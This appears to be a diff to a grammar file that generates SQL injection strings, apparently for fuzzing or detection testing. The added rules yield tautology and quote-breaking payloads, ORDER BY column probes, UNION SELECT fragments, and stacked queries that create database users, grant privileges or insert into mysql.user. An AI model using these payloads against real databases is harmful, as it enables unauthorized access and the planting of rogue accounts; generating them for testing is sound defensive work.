@@ -203,6 +203,18 @@ kw = LOCALTIME¦current_date¦UTC_TIME¦current_user¦sysdate()¦now()¦curdate(
 bin = =¦!=¦<>¦<=>¦<¦>¦*¦/¦+¦-¦^¦|¦&¦%¦||¦&&¦ like ¦ rlike ¦ regexp ¦ div ¦ mod ¦ is ¦ is not ¦ or ¦ and ¦ xor ¦ sounds like ¦ not like ¦ between 1 and ¦ in ¦<<¦>>¦ not regexp ¦ collate latin1_bin = ¦ LIKE ¦ OR ¦ AND ¦ DIV ¦=
 gap = ¦ ¦ ¦  ¦¦
 chain:
+  2×‹n0›"‹wop1›‹u›"‹d›
+  ‹n0›"‹wop1›‹v›‹bin›‹v›#‹az›
+  ‹az›"‹wop1›‹u›‹n0›="‹u›‹d›
+  ‹az›'‹wop1›‹u›'‹az›
+  2×‹az›'‹bin›‹u›'‹d›
+  ‹gap›‹az›'‹gap›‹bin›‹gap›‹u›‹n0›‹bin›‹u›'‹d›
+  '‹wop1›\N‹bin›‹u›'
+  ' or ‹fname›(‹n0›) ‹bin›'‹d›
+  ' or ‹col› ‹is not null¦is null¦is not 2¦like '%'›
+  ‹az›" or @@global.‹az›‹bin›"‹d›
+  =‹az›()
+  ‹n›‹bin›‹az›()
   4×‹az›'‹gap›‹bin›‹gap›‹v›‹bin›‹gap›‹v›‹ctail›
   3×‹az›'‹gap›‹bin›‹gap›‹v›‹ctail›
   2×‹gap›‹az›'‹gap›‹bin›‹v›‹bin›‹v›‹bin›‹v›‹ctail›
@@ -233,6 +245,8 @@ chain:
   '||‹az›.‹az›('‹user›','‹rnd›')||'
   or ‹v› ‹bin› ‹v›
   ‹az› ‹op› ‹c› = ‹c›
+wop1 = OR¦or¦AND¦and¦xor¦||¦&&¦like¦LIKE¦is¦IS¦in¦div¦or ¦and ¦^
+fname = SOUNDEX¦ASCII¦LENGTH¦HEX¦SIGN¦ABS¦BIT_COUNT¦MD5¦ISNULL¦IFNULL¦LOWER
 ctail:
   3×‹e›
   #
@@ -263,6 +277,14 @@ union0:
   /**/union/**/select/**/‹numbers›#
   union select ‹numbers›-- -
 halves:
+  2×‹sp›ORDER BY ‹#1-60›‹sp›
+  ORDER BY ‹#1-60›#‹sp›
+  ‹n› or ‹x=d1› = ‹$x›
+  or ‹x=d1› = ‹$x› #
+  exec sp_‹addlogin¦password¦who¦help› '‹az›' , '‹az›'
+  create user ‹az› identified by '‹rnd›'
+  grant connect to ‹az›; grant resource to ‹az›;
+  insert into mysql.user (user, host, password) values ('‹az›', 'localhost', password('‹rnd›'))
   3×'‹sp›union‹sp›select
   union select
   union all select ‹numbers›‹cm›
